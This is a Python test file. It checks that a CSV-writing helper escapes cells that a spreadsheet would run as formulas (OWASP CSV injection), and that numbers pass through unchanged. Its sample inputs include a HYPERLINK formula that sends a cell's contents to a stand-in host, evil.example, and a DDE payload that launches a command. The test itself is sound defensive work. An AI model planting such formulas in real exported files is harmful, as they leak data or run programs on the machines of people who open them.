"""CSV cells a spreadsheet would run as formulas are written as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from types import SimpleNamespace

from cxloop.core import csvsafe


def _written(rows: list[list]) -> list[list[str]]:
    buffer = io.StringIO()
    csvsafe.writer(buffer).writerows(rows)
    return list(csv.reader(io.StringIO(buffer.getvalue())))


def test_text_starting_like_a_formula_gets_a_leading_quote():
    rows = _written(
        [
            ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0"],
            ["+1", "-1", "\t=1+1", "\r=1+1"],
            ["plain", "a=b", "x@example.com", "", "1-2"],
        ]
    )

    assert rows == [
        ['\'=HYPERLINK("http://evil.example/?x="&A1,"Click")', "'@SUM(1+1)*cmd|' /C calc'!A0"],
        ["'+1", "'-1", "'\t=1+1", "'\r=1+1"],
        ["plain", "a=b", "x@example.com", "", "1-2"],
    ]


def test_numbers_stay_numbers():
    # a number cannot hold a formula: a negative score stays readable as -1
    assert _written([[-1, -2.5, Decimal("-3.25"), 0, None, True]]) == [
        ["-1", "-2.5", "-3.25", "0", "", "True"]
    ]
    assert csvsafe.cell("-1") == "'-1"  # the same characters as text are escaped


def test_cli_error_report_is_escaped(tmp_path):
    from cxloop.cli import _print_rejections

    report = tmp_path / "x.errors.csv"
    _print_rejections([SimpleNamespace(position=3, reason="=1+1")], report)

    assert list(csv.reader(report.open(newline=""))) == [["line", "reason"], ["3", "'=1+1"]]
